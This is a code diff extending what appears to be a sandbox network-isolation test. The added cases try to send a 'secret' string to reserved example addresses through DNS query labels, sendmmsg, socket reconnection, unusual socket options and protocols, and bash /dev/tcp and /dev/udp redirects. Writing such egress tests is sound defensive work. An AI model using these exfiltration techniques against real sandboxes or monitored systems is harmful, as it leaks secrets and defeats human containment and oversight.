@@ -89,6 +89,79 @@ def raw(*arguments):
         return 'sent'
 
 
+def libc_call(name, *arguments):
+    import ctypes
+    result = getattr(ctypes.CDLL(None, use_errno=True), name)(*arguments)
+    if result < 0:
+        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
+    return result
+
+
+def typed_question(kind):
+    query = b'\x12\x34\x01\0\0\1\0\0\0\0\0\0\x08' + secret.encode() + b'\7example\0' + bytes([0, kind, 0, 1])
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+        s.settimeout(2)
+        s.sendto(query, ('203.0.113.53', 53))
+        if s.recv(512)[3] & 15:
+            raise OSError('refused')
+
+
+def many_datagrams():
+    # One call, several messages: the first to ourselves, the others not.
+    import ctypes
+    own = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    own.bind(('127.0.0.1', 0))
+    names = [b'\2\0' + port.to_bytes(2, 'big') + socket.inet_aton(host) + bytes(8) for host, port in
+             [own.getsockname(), ('203.0.113.7', 9999), ('203.0.113.8', 9999)]]
+    text = ctypes.create_string_buffer(secret.encode())
+    keep, headers = [], (ctypes.c_ulong * 24)()
+    for i, name in enumerate(names):
+        parts = (ctypes.c_ulong * 2)(ctypes.addressof(text), 8)
+        address = ctypes.create_string_buffer(name, 16)
+        keep += [parts, address]
+        headers[8 * i:8 * i + 4] = [ctypes.addressof(address), 16, ctypes.addressof(parts), 1]
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+        sent = libc_call('sendmmsg', s.fileno(), headers, 3, 0)
+        if sent < 2:
+            raise OSError('one sent')
+
+
+def moved_datagram():
+    # Connected to ourselves, then to nobody, then to somebody else.
+    own = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    own.bind(('127.0.0.1', 0))
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+        s.connect(own.getsockname())
+        s.send(b'x')
+        libc_call('connect', s.fileno(), bytes(16), 16)
+        s.connect(('203.0.113.7', 9999))
+        s.send(secret.encode())
+
+
+def moved_stream():
+    own = socket.create_server(('127.0.0.1', 0))
+    with socket.socket() as s:
+        s.connect(own.getsockname())
+        libc_call('connect', s.fileno(), bytes(16), 16)
+        s.connect(('203.0.113.7', 80))
+        s.sendall(secret.encode())
+
+
+def with_option(level, name, value):
+    # What makes Linux connect, route or send in another way.
+    with socket.socket() as s:
+        s.settimeout(2)
+        s.setsockopt(level, name, value)
+        s.connect(('203.0.113.7', 80))
+
+
+def special(family, kind, protocol, address):
+    with socket.socket(family, kind, protocol) as s:
+        s.settimeout(2)
+        s.connect(address)
+        s.send(secret.encode())
+
+
 attempt('label', lambda: socket.getaddrinfo(secret + '.example', 80))
 attempt('label of a search', lambda: socket.gethostbyname(secret))
 attempt('reverse', lambda: socket.gethostbyaddr('203.0.113.99'))
@@ -115,6 +188,30 @@ attempt('passed on', lambda: sent_on())
 attempt('raw', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
 attempt('packet', lambda: socket.socket(17, socket.SOCK_RAW, 0x300))
 attempt('vsock', lambda: socket.socket(40, socket.SOCK_STREAM))
+for kind in (2, 5, 12, 15, 16, 33, 255):
+    attempt('question of type %d' % kind, lambda: typed_question(kind))
+attempt('question over TCP', lambda: connect('203.0.113.53', 53))
+for name in (secret + '.EXAMPLE.', secret.upper() + '.Example', secret + '\u3002example', 'xn--' + secret + '.example', 'a.example@' + secret + '.example'):
+    attempt('name ' + ascii(name), lambda: socket.getaddrinfo(name, 80))
+attempt('numeric only', lambda: socket.getaddrinfo(secret + '.example', 80, flags=socket.AI_NUMERICSERV))
+attempt('scope', lambda: socket.socket(socket.AF_INET6).connect(('fe80::1', 80, 0, 1)))
+attempt('scope of IPv4', lambda: socket.socket(socket.AF_INET6).connect(('::ffff:203.0.113.7', 80, 0, 1)))
+attempt('compatible', lambda: connect('::203.0.113.7', 80, socket.AF_INET6))
+attempt('several messages', lambda: many_datagrams())
+attempt('moved datagram', lambda: moved_datagram())
+attempt('moved stream', lambda: moved_stream())
+attempt('late fast open', lambda: with_option(6, 30, 1))
+attempt('transparent', lambda: with_option(0, 19, 1))
+attempt('device', lambda: with_option(1, 25, b'lo\0'))
+attempt('source route', lambda: with_option(0, 4, b'\x83\x07\x04\xcb\x00\x71\x08\x00'))
+attempt('mark', lambda: with_option(1, 36, 7))
+attempt('ping', lambda: special(socket.AF_INET, socket.SOCK_DGRAM, 1, ('203.0.113.7', 0)))
+attempt('SCTP', lambda: special(socket.AF_INET, socket.SOCK_STREAM, 132, ('203.0.113.7', 80)))
+attempt('MPTCP', lambda: special(socket.AF_INET, socket.SOCK_STREAM, 262, ('203.0.113.7', 80)))
+attempt('UDP-Lite', lambda: special(socket.AF_INET, socket.SOCK_DGRAM, 136, ('203.0.113.7', 9999)))
+attempt('netlink', lambda: socket.socket(16, socket.SOCK_RAW, 0))
+attempt('cryptography of the kernel', lambda: socket.socket(38, socket.SOCK_SEQPACKET))
+attempt('io_uring', lambda: libc_call('syscall', 425, 8, bytes(120)))
 attempt('bash', lambda: command('bash', '-c', 'echo secret > /dev/tcp/203.0.113.7/80'))
 attempt('bash, datagram', lambda: command('bash', '-c', 'echo secret > /dev/udp/203.0.113.7/9999'))
 attempt('git', lambda: command('git', 'ls-remote', 'git://203.0.113.7/' + secret))
